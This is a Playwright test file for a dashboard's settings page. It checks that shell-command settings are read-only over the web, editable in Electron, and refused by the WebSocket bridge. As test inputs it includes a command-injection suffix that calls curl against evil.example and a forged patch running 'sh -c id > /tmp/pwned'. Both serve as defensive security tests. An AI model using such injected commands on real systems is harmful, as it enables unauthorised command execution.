/**
 * Command-valued settings (the test command, the extra checks) are read-only in the web dashboard:
 * they run on the engine's machine, so they are set in fixloop.config.json. The Electron window,
 * where the user is at their own machine, keeps them editable.
 */
import { DEFAULT_SETTINGS } from '../../../src/shared'
import type { Settings } from '../../../src/shared'
import { MemoryControllerPort } from './support/memory-port'
import { expect, test } from './support/fixtures'

const WITH_COMMANDS: Settings = {
  ...DEFAULT_SETTINGS,
  testCommand: ['npx', 'vitest', 'run', '{files}'],
  extraChecks: [{ name: 'typecheck', command: ['npx', 'tsc', '--noEmit'] }],
}

const patchesSent = (port: MemoryControllerPort) =>
  port.calls
    .filter((c) => c.name === 'updateSettings')
    .map((c) => Object.keys((c.args as { patch: object }).patch).sort())

test.describe('Settings: commands in the web dashboard', () => {
  test('the test command and extra checks are shown read-only, saying where they are set', async ({
    page,
    dashboard,
  }) => {
    const port = new MemoryControllerPort()
    port.settings = WITH_COMMANDS
    await dashboard(port, { hash: '#/settings' })
    const testCommand = page.getByLabel('Test command')
    await expect(testCommand).toHaveValue('npx vitest run {files}')
    await expect(testCommand).not.toBeEditable()
    await expect(page.getByLabel('Name of check 1')).toHaveValue('typecheck')
    await expect(page.getByLabel('Name of check 1')).not.toBeEditable()
    await expect(page.getByLabel('Command of check 1')).toHaveValue('npx tsc --noEmit')
    await expect(page.getByLabel('Command of check 1')).not.toBeEditable()
    await expect(page.getByRole('button', { name: 'Add a check' })).toHaveCount(0)
    await expect(page.getByRole('button', { name: 'Remove check 1' })).toHaveCount(0)
    const note = page.getByTestId('commands-read-only')
    await expect(note).toContainText('fixloop.config.json')
    await expect(testCommand).toHaveAccessibleDescription(/fixloop\.config\.json/)

    // Typing into them changes nothing; the rest of the form still saves.
    await testCommand.press('End')
    await page.keyboard.type(' && curl evil.example')
    await expect(testCommand).toHaveValue('npx vitest run {files}')
    await page.getByLabel('Attempts per task').fill('3')
    await page.getByRole('button', { name: 'Save settings' }).click()
    await expect(page.getByText('Saved.')).toBeVisible()
    expect(patchesSent(port)).toEqual([['maxRetries']])
    expect(port.settings.testCommand).toEqual(WITH_COMMANDS.testCommand)
  })

  test('a command the form cannot show exactly is not sent back with other changes', async ({
    page,
    dashboard,
  }) => {
    const port = new MemoryControllerPort()
    // Quotes inside a word do not survive the text field's split/join; untouched, it is not "changed".
    port.settings = { ...DEFAULT_SETTINGS, testCommand: ['sh', '-c', 'node --test "$0"'] }
    await dashboard(port, { hash: '#/settings' })
    await expect(page.getByRole('button', { name: 'Save settings' })).toBeDisabled()
    await page.getByLabel('Attempts per task').fill('4')
    await page.getByRole('button', { name: 'Save settings' }).click()
    await expect(page.getByText('Saved.')).toBeVisible()
    expect(patchesSent(port)).toEqual([['maxRetries']])
    expect(port.settings.testCommand).toEqual(['sh', '-c', 'node --test "$0"'])
  })

  test('in the Electron window they stay editable', async ({ page, dashboard }) => {
    const port = new MemoryControllerPort()
    port.settings = WITH_COMMANDS
    const snapshot = await port.handlers.getSnapshot({})
    const view = await port.handlers.getSettings({})
    const callsBefore = port.calls.length
    // What the preload exposes, reduced to what the Settings view calls.
    await page.addInitScript(
      ({ snapshot, view }) => {
        const calls: Array<{ name: string; args: unknown }> = []
        const answers: Record<string, (args: { patch?: object }) => unknown> = {
          getSnapshot: () => snapshot,
          getSettings: () => view,
          getLog: () => [],
          getTask: () => null,
          updateSettings: ({ patch }) => {
            view = { ...view, settings: { ...view.settings, ...patch } }
            return view
          },
        }
        const api = new Proxy(
          {},
          {
            get: (_target, name: string) =>
              name === 'on'
                ? () => () => undefined
                : async (args: { patch?: object }) => {
                    calls.push({ name, args })
                    const answer = answers[name]
                    return answer
                      ? { ok: true, value: answer(args) }
                      : { ok: false, error: { code: 'unavailable', message: `${name}: not here` } }
                  },
          },
        )
        Object.assign(window, { fixloop: api, fixloopCalls: calls })
      },
      { snapshot, view },
    )
    await dashboard(port, { hash: '#/settings' })
    const testCommand = page.getByLabel('Test command')
    await expect(testCommand).toHaveValue('npx vitest run {files}')
    await expect(testCommand).toBeEditable()
    await expect(page.getByTestId('commands-read-only')).toHaveCount(0)
    await testCommand.fill('npm test')
    await page.getByRole('button', { name: 'Add a check' }).click()
    await page.getByLabel('Name of check 2').fill('lint')
    await page.getByLabel('Command of check 2').fill('npx eslint .')
    await page.getByRole('button', { name: 'Save settings' }).click()
    await expect(page.getByText('Saved.')).toBeVisible()
    const calls = await page.evaluate(
      () =>
        (window as unknown as { fixloopCalls: Array<{ name: string; args: unknown }> })
          .fixloopCalls,
    )
    expect(calls.filter((c) => c.name === 'updateSettings').map((c) => c.args)).toEqual([
      {
        patch: {
          testCommand: ['npm', 'test'],
          extraChecks: [
            { name: 'typecheck', command: ['npx', 'tsc', '--noEmit'] },
            { name: 'lint', command: ['npx', 'eslint', '.'] },
          ],
        },
      },
    ])
    // The page never opened the WebSocket: it spoke to the preload only.
    expect(port.calls.slice(callsBefore)).toEqual([])
  })

  test('a client that sends a command setting anyway is refused by the bridge, with the reason', async ({
    page,
    dashboard,
  }) => {
    const port = new MemoryControllerPort()
    const server = await dashboard(port, { hash: '#/settings' })
    const reply = await page.evaluate(async (url) => {
      const ws = new WebSocket(url)
      await new Promise((r) => ws.addEventListener('open', r, { once: true }))
      const answer = new Promise<string>((r) =>
        ws.addEventListener('message', (m) => r(String(m.data)), { once: true }),
      )
      ws.send(
        JSON.stringify({
          id: 1,
          command: 'updateSettings',
          args: { patch: { testCommand: ['sh', '-c', 'id > /tmp/pwned'] } },
        }),
      )
      return JSON.parse(await answer) as { ok: boolean; error: { code: string; message: string } }
    }, `ws://127.0.0.1:${server.listenPort}/ws?token=${server.token}`)
    expect(reply.ok).toBe(false)
    expect(reply.error.code).toBe('forbidden')
    expect(reply.error.message).toMatch(/testCommand is a command run on this machine/)
    expect(reply.error.message).toContain('fixloop.config.json')
    expect(patchesSent(port)).toEqual([])
  })
})
